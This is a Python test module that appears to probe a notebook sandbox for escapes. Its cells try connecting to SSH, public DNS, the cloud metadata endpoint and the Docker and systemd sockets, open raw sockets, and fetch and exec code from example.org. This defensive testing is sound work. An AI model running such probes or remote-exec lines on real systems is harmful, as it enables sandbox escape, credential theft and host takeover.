"""The network: of the machine, of the world, and of other processes."""

from .kit import WON, attack


@attack
def connects_to_everything(work):
    work.cell(f"""
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("1.1.1.1", 53)),
    (socket.AF_INET, ("169.254.169.254", 80)), (socket.AF_INET6, ("::1", 22)),
):
    with socket.socket(family) as link:
        link.settimeout(0.5)
        try:
            link.connect(address)
            print({WON!r}, address)
        except OSError:
            pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
    try:
        link.sendto(b"x", ("8.8.8.8", 53))
        print({WON!r})
    except OSError:
        pass
""")


@attack
def raw_and_netlink_sockets(work):
    work.cell(f"""
import socket
for family, kind, number in ((socket.AF_PACKET, 3, 0), (socket.AF_INET, 3, 1)):
    try:
        socket.socket(family, kind, number)
        print({WON!r})
    except OSError:
        pass
names = [name for _, name in socket.if_nameindex()]
if names != ["lo"]:
    print({WON!r}, names)
""")


@attack
def talks_to_services_of_the_machine(work):
    work.cell(f"""
import socket
for path in ("/var/run/docker.sock", "/run/systemd/private", "/tmp/.X11-unix/X0",
             "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0", "/dev/log"):
    with socket.socket(socket.AF_UNIX) as link:
        try:
            link.connect(path)
            print({WON!r}, path)
        except OSError:
            pass
""")


@attack
def downloads_an_answer(work):
    work.cell("%pip install torch\n!curl -m 2 http://example.org")
    work.cell("""
import urllib.request
exec(urllib.request.urlopen("http://example.org/mul.py", timeout=2).read())
""")
